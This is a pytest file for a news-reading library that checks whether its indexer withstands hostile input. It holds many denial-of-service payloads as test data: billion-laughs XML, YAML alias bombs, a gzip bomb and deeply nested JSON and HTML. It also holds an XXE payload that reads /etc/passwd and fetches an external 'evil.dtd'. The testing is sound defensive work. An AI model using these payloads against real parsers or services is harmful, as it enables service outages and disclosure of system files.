"""Files made to hang, bloat or crash whoever reads them."""

from __future__ import annotations

import gzip
import json
import os
from collections.abc import Mapping

import pytest

from newsreader.formats import READERS
from newsreader.library import workers
from tests.builders import BUDGET, Library

MERGE_KEYS = "\n".join(
    ["a0: &a0 {x: 1}", *(f"a{i}: &a{i} {{<<: [*a{i - 1}, *a{i - 1}, *a{i - 1}]}}" for i in range(1, 26))]
)
ALIASES = "\n".join(
    ["a0: &a0 [x, x, x, x, x]", *(f"a{i}: &a{i} [{', '.join([f'*a{i - 1}'] * 9)}]" for i in range(1, 9))]
)
LAUGHS = (
    '<?xml version="1.0"?><!DOCTYPE r [<!ENTITY a "ha">'
    + "".join(f'<!ENTITY {chr(98 + i)} "{f"&{chr(97 + i)};" * 10}">' for i in range(9))
    + "]><rss><channel><title>&j;</title><item><title>&j;</title><description>&j;</description></item></channel></rss>"
)
XXE = (
    '<?xml version="1.0"?><!DOCTYPE r [<!ENTITY x SYSTEM "file:///etc/passwd">'
    '<!ENTITY % d SYSTEM "http://127.0.0.1:9/evil.dtd">%d;]><rss version="2.0"><channel><title>Feed</title>'
    "<item><title>Title &x;</title><description>Text &x;</description></item></channel></rss>"
)
MAIL = "From: a@b.test\nSubject: {subject}\nMIME-Version: 1.0\nContent-Type: {kind}\n\n{body}"
BOMBS: Mapping[str, str | bytes] = {
    "escapes in escapes.txt": "Title\n\n" + "\x1b[" * 40_000 + "m" * 40_000,
    "marks.txt": "Title\n\n" + "e" + "\u0301\u0323" * 200_000,
    "one word.txt": "x" * 2_000_000,
    "no line end.txt": "word " * 400_000,
    "stops.txt": "Title\n\n" + "A. " * 200_000,
    "quotes.txt": "Title\n\n" + "“" * 200_000,
    "gzip.txt": b"\x1f\x8b\x08\x00" + b"\xff\x00" * 5_000,
    "brackets.md": "# T\n\n" + "[" * 60_000,
    "quotes.md": ">" * 50_000 + " deep",
    "lists.md": "".join("  " * i + "- x\n" for i in range(2_000)),
    "stars.md": "*a **a " * 20_000,
    "ticks.md": "".join("`" * i + " " for i in range(600)),
    "links.md": "[a](" * 20_000,
    "merge keys.md": f"---\ntitle: T\n{MERGE_KEYS}\n---\nText.\n",
    "aliases.md": f"---\ntitle: T\n{ALIASES}\ntags: *a8\n---\nText.\n",
    "deep.md": "---\ntitle: T\na: " + "[" * 10_000 + "\n---\nText.\n",
    "long number.md": "---\ntitle: T\na: " + "9" * 50_000 + "\n---\nText.\n",
    "deep.json": "[" * 100_000,
    "deep object.json": '{"a":' * 100_000,
    "digits.json": '{"title": "T", "text": "Text.", "n": ' + "9" * 5_000 + "}",
    "nan.json": '{"title": "T", "text": "Text.", "n": NaN, "s": "\\ud800"}',
    "bad lines.jsonl": '{"title": "One", "text": "A text."}\n{"title": \n[[[[\n{"title": "Two", "text": "A text."}\n',
    "quotes.csv": "title,text\n" + '"' * 300_001,
    "wide.csv": "title,text" + "," * 200_000 + "\na,b\n",
    "parts.eml": MAIL.format(subject="S", kind='multipart/mixed; boundary="x"', body="--x\n\na\n" * 30_000),
    "nested.eml": MAIL.format(subject="S", kind="message/rfc822", body="Content-Type: message/rfc822\n\n" * 5_000),
    "words.eml": MAIL.format(subject="=?utf-8?q?a?= " * 30_000, kind="text/plain", body="Text."),
    "comments.eml": f"From: {'(' * 20_000}\nMessage-ID: <[\nDate: +99:99\nContent-Type: text/plain; charset=idna\n\nT.",
    "from.mbox": "From \n" * 100_000,
    "divs.html": "<div>" * 100_000 + "Text.",
    "tables.html": "<table><tr><td>" * 3_000 + "Text.",
    "attributes.html": "<p " + " ".join(f"a{i}=b" for i in range(50_000)) + ">Text.</p>",
    "open tags.html": "<a <b <p " * 50_000,
    "large.html": "<p>" + "A sentence of some words. " * 100_000,
    "comments.html": "<!--" * 50_000,
    "laughs.xml": LAUGHS,
    "laughs.rss": LAUGHS,
    "outside.rss": XXE,
    "outside.xml": XXE,
    "deep.xml": "<rss><channel><item>" + "<a>" * 100_000,
    "many.rss": '<rss version="2.0"><channel>' + "<item><title>T&amp;</title></item>" * 20_000 + "</channel></rss>",
    "bomb.txt.gz": gzip.compress(b"A " * 50_000_000, 1),
}  # fmt: skip


@pytest.fixture
def quick(monkeypatch: pytest.MonkeyPatch) -> None:
    """Limits that end what hangs soon; what only takes long is not meant."""
    monkeypatch.setattr(workers, "CPU_SECONDS", 3.0)


@pytest.mark.timeout(600)  # files that take all the processor time they are given, on a machine with other work
@pytest.mark.usefixtures("quick")
@pytest.mark.parametrize("part", range(4))
def test_fault_26_bombs_cost_themselves_only(library: Library, part: int) -> None:
    """Also items 8, 24 and 28 to 32: all are read or refused with a reason, and what stands beside them is read."""
    planted = {
        library.path(name): library.write(name, data)
        for name, data in list(BOMBS.items())[part::4]
        if os.path.splitext(name)[1] in READERS or name.endswith(".gz")
    }
    assert planted
    library.write("good.txt", BUDGET)
    library.write("zgood.txt", BUDGET)
    report = library.index()
    failed = {str(path): reason for path, reason in report.failed}
    assert failed.keys() <= planted.keys()
    assert all(reason and len(reason) < 300 and reason.isprintable() for reason in failed.values())
    assert {"good.txt", "zgood.txt"} <= library.found("council")
    assert planted.keys() <= failed.keys() | {library.path(name) for name in library.ids()}
    again = library.index()
    assert again.newly_failed == []
    assert again.added == 0
    articles = library.engine.articles([int(n) for n in library.engine.searching.search("").numbers])
    shown = " ".join(text for a in articles for text in (a.title, a.source or "", a.author or ""))
    assert "root:" not in shown  # of /etc/passwd
    assert len(shown) < 2_000_000


def test_fault_08_one_bad_file_among_many(library: Library) -> None:
    for i in range(400):
        library.write(f"{i:03}.txt", f"Title {i}\n\nText number {i} of this test.")
    library.write("150.txt", b"\x00" * 100)
    ran = library.run("index", "--json", str(library.folder), as_process=True)
    assert (ran.json["added"], len(ran.json["failed"])) == (399, 1)
    assert library.run("index", "--strict").code == 65


def test_fault_30_one_bad_line_costs_itself_only(library: Library) -> None:
    library.write("a.jsonl", "\n".join([json.dumps({"title": "One", "text": "Of ferries."}), "{", "[" * 5_000]))
    report = library.index()
    assert report.added == 1
    assert any("a.jsonl" in warning for warning in report.warnings)
